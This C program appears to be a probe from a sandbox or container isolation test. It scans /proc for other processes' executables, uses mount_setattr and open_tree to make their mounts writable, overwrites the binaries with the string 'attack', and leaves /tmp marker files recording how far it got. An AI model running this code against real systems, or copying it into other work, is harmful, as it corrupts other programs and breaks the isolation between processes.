/* remounts: makes the mount writable that the program of somebody else lies on, of every process that it sees, or a copy of that mount, and
 * then writes to the file. It leaves /tmp/ready, /tmp/looked once it saw such a program, and /tmp/writable once the kernel let it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const struct {
    uint64_t set, clear, propagation, user_namespace;
} writable = {.clear = 1};

static void note(const char *name) { close(open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644)); }

static int same(const struct stat *left, const struct stat *right) {
    return left->st_dev == right->st_dev && left->st_ino == right->st_ino;
}

static void overwrite(int file) {
    char name[32];
    snprintf(name, sizeof name, "/proc/self/fd/%d", file);
    /* Busy as long as it runs. */
    for (int attempt = 0; attempt < 2000; attempt++) {
        int opened = open(name, O_WRONLY | O_CLOEXEC);
        if (opened >= 0) {
            if (write(opened, "attack", 6) == 6) note("/tmp/written");
            close(opened);
            return;
        }
        if (errno != ETXTBSY) return;
        usleep(1000);
    }
}

static void attack(int mount) {
    if (syscall(SYS_mount_setattr, mount, "", AT_EMPTY_PATH, &writable, sizeof writable)) return;
    note("/tmp/writable");
    overwrite(mount);
}

int main(void) {
    struct stat own, shell, seen;
    if (stat("/proc/self/exe", &own) || stat("/bin/busybox", &shell)) return 1;
    note("/tmp/ready");
    for (;;) {
        DIR *processes = opendir("/proc");
        if (!processes) return 1;
        for (struct dirent *entry; (entry = readdir(processes));) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            int file = open(path, O_PATH | O_CLOEXEC);
            if (file < 0) continue;
            if (!fstat(file, &seen) && !same(&seen, &own) && !same(&seen, &shell)) {
                note("/tmp/looked");
                attack(file);
                int copy = (int)syscall(SYS_open_tree, file, "", AT_EMPTY_PATH | 1 | O_CLOEXEC);
                if (copy >= 0) {
                    attack(copy);
                    close(copy);
                }
            }
            close(file);
        }
        closedir(processes);
    }
}
